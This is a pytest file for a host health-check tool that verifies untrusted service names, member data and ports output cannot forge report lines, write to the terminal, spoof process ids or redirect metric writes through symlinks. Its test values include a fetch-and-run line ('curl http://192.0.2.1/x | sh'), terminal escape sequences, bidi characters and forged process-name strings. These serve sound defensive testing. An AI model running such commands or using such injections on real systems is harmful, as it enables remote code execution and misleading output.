"""What others decide, such as names and files, never becomes a line, a remedy, a path or a pause of root's check."""

from __future__ import annotations

import json
import os
import re
from pathlib import Path

import pytest

from host_program import shared_directory
from host_program.facts import ports
from host_program.output import Failure
from tests.host import network as servers
from tests.host.conftest import needs_root
from tests.host.healthy import ADDRESS, PROCESS, RESOLV_CONF, HealthyHost

FORGED = "web\nbroken  guard  open\t-> curl http://192.0.2.1/x | sh\n\x1b[2J\x1b]0;x\x07\u202e\u2028"
NOBODY = 65534


def is_clean(text: str) -> bool:
    """Whether the lines hold nothing but what is printable."""
    return all(line.isprintable() for line in text.split("\n"))


def service(name: str) -> str:
    return json.dumps({"h:web:80": {"ID": "h:web:80", "Service": name, "Address": "127.0.0.1", "Port": 80}})


def test_a_service_cannot_forge_a_line_of_the_report(connected: HealthyHost) -> None:
    connected.set_answer("agent.services", service("web"))
    plain = connected.run("check", code=2).stdout.splitlines()
    connected.set_answer("agent.services", service(FORGED))
    file = connected.host.root / "consul.prom"
    said = connected.run("check", code=2).stdout
    assert is_clean(said)
    assert [line.split()[:2] for line in said.splitlines()] == [line.split()[:2] for line in plain]
    report = json.loads(connected.run("check", "--json", "--prometheus", str(file), code=2).stdout)
    assert all(text.isprintable() for link in report["links"] for text in link.values())
    lines = [line for line in file.read_text().splitlines() if not line.startswith("#")]
    assert all(re.fullmatch(r"consul_docker_host_(state|link\{link=\"[a-z]+\"\}) (0|0\.5|1|2)", line) for line in lines)


def test_a_member_cannot_write_to_the_terminal_that_shows_the_status(connected: HealthyHost) -> None:
    connected.set_answer("agent.members", json.dumps([{"Name": FORGED, "Addr": FORGED, "Status": 1, "Tags": {}}]))
    connected.set_answer("agent.services", service(FORGED))
    said = connected.run("status", code=0).stdout
    assert is_clean(said)
    assert not [line for line in said.splitlines() if line.startswith("broken")]


@pytest.mark.parametrize(
    "value", ["[]", "null", '"x"', "7", '{"Member": 7, "Config": []}', "[" * 100_000, "{", '{"a": {"ID": 7}, "b": 8}']
)
def test_an_answer_of_another_shape_is_no_answer(connected: HealthyHost, value: str) -> None:
    """Whoever holds the port answers; that is no reason to end with a traceback."""
    for name in ("agent.self", "agent.members", "agent.services", "status.leader"):
        connected.set_answer(name, value)
    done = connected.run("check", code=2 if "Addr" not in value else 0)
    assert done.stderr == ""
    assert connected.run("status", code=0).stderr == ""


def test_a_container_that_puts_pipes_and_links_in_place_holds_up_nothing(connected: HealthyHost) -> None:
    entry = connected.host.root / f"proc/{PROCESS}/root/etc"
    entry.mkdir(parents=True)
    os.mkfifo(entry / "resolv.conf")
    resolv_conf = connected.host.root / RESOLV_CONF[1:]
    resolv_conf.unlink()
    os.mkfifo(resolv_conf)
    os.mkfifo(connected.host.write("etc/consul.d/x", "").with_name("pipe.json"))
    os.mkfifo(connected.host.write("etc/dnsmasq.d/x", "").with_name("pipe.conf"))
    connected.run("check", code=0)


def test_a_program_cannot_lend_its_name_to_another_process() -> None:
    """A program chooses its name, of 15 bytes at most; a remedy names its process."""
    for forged in ('x",pid=1,fd=3)', '"),("b",pid=1', 'systemd",pid=1', "x)),((", '",pid=1,fd=3)'):
        line = f'tcp LISTEN 0 5 {ADDRESS}:8500 0.0.0.0:* users:(("{forged}",pid=77,fd=4))'
        found = ports._parse(line, ADDRESS)
        assert found is not None, forged
        assert list(found[2].values()) == [77], forged
    both = f'tcp LISTEN 0 5 {ADDRESS}:53 0.0.0.0:* users:(("dnsmasq",pid=8,fd=5),("systemd",pid=1,fd=9))'
    assert ports._parse(both, ADDRESS) == (ADDRESS, 53, {"dnsmasq": 8, "systemd": 1})


@pytest.fixture
def theirs(tmp_path: Path) -> Path:
    """Give a directory that another user owns."""
    folder = tmp_path / "theirs"
    folder.mkdir()
    os.chown(folder, NOBODY, NOBODY)
    return folder


@needs_root
def test_the_file_of_metrics_follows_no_link_of_its_directory_s_owner(theirs: Path, tmp_path: Path) -> None:
    target = tmp_path / "shadow"
    target.write_text("root")
    (theirs / "a.prom").symlink_to(target)
    with pytest.raises(Failure, match=r"theirs/a\.prom is a symlink in a directory that others can write to"):
        shared_directory.replace(str(theirs / "a.prom"), b"x")
    assert target.read_text() == "root"


@needs_root
def test_no_directory_on_the_way_is_a_link_of_somebody_else(theirs: Path, tmp_path: Path) -> None:
    (tmp_path / "etc").mkdir()
    (theirs / "below").symlink_to(tmp_path / "etc")
    with pytest.raises(Failure, match="theirs/below is a symlink"):
        shared_directory.replace(str(theirs / "below/a.prom"), b"x")
    assert not list((tmp_path / "etc").iterdir())


@needs_root
def test_a_file_of_metrics_in_somebody_else_s_directory_is_replaced_with_its_owner_and_mode(theirs: Path) -> None:
    file = theirs / "a.prom"
    assert shared_directory.replace(str(file), b"1")
    assert (file.stat().st_mode & 0o7777, file.stat().st_uid) == (0o644, 0)
    os.chown(file, NOBODY, NOBODY)
    file.chmod(0o4640)
    number = file.stat().st_ino
    assert shared_directory.replace(str(file), b"2")
    assert (file.read_bytes(), file.stat().st_mode & 0o7777, file.stat().st_uid) == (b"2", 0o640, NOBODY)
    assert file.stat().st_ino != number
    assert not shared_directory.replace(str(file), b"2")
    assert [path.name for path in theirs.iterdir()] == ["a.prom"]


@needs_root
def test_whatever_else_lies_in_the_file_s_place_is_replaced_and_never_opened(theirs: Path) -> None:
    os.mkfifo(theirs / "a.prom")
    assert shared_directory.replace(str(theirs / "a.prom"), b"1")
    assert (theirs / "a.prom").read_bytes() == b"1"


def test_a_link_of_one_s_own_is_followed(tmp_path: Path) -> None:
    (tmp_path / "real").mkdir()
    (tmp_path / "way").symlink_to("./real/../real")
    (tmp_path / "real/a.prom").write_text("0")
    (tmp_path / "way/b.prom").symlink_to("a.prom")
    assert shared_directory.replace(str(tmp_path / "way/b.prom"), b"1")
    assert (tmp_path / "real/a.prom").read_bytes() == b"1"
    assert (tmp_path / "real/b.prom").is_symlink()


def test_a_link_that_leads_nowhere_is_named(tmp_path: Path) -> None:
    (tmp_path / "a.prom").symlink_to("none")
    with pytest.raises(Failure, match="is a dangling symlink"):
        shared_directory.replace(str(tmp_path / "a.prom"), b"1")
    (tmp_path / "b.prom").symlink_to("b.prom")
    with pytest.raises(Failure, match="is a loop of symlinks"):
        shared_directory.replace(str(tmp_path / "b.prom"), b"1")


def test_the_agent_s_token_goes_out_in_a_header_alone(connected: HealthyHost, monkeypatch: pytest.MonkeyPatch) -> None:
    asked: list[bytes] = []
    answer = servers.answer_request

    def record(data: Path, request: bytes) -> bytes:
        asked.append(request)
        return answer(data, request)

    monkeypatch.setattr(servers, "answer_request", record)
    connected.host.configure("AGENT_TOKEN_FILE=/etc/secret\n")
    connected.host.write("etc/secret", "b1946ac9-2de5\r\n").chmod(0o600)
    connected.run("check", code=0)
    assert len(asked) == 3
    for request in asked:
        assert b"\r\nX-Consul-Token: b1946ac9-2de5\r\n" in request
        assert request.count(b"b1946ac9") == 1
    calls = "".join(record.read_text() for record in connected.host.fakes.glob("*.calls"))
    assert "b1946ac9" not in calls
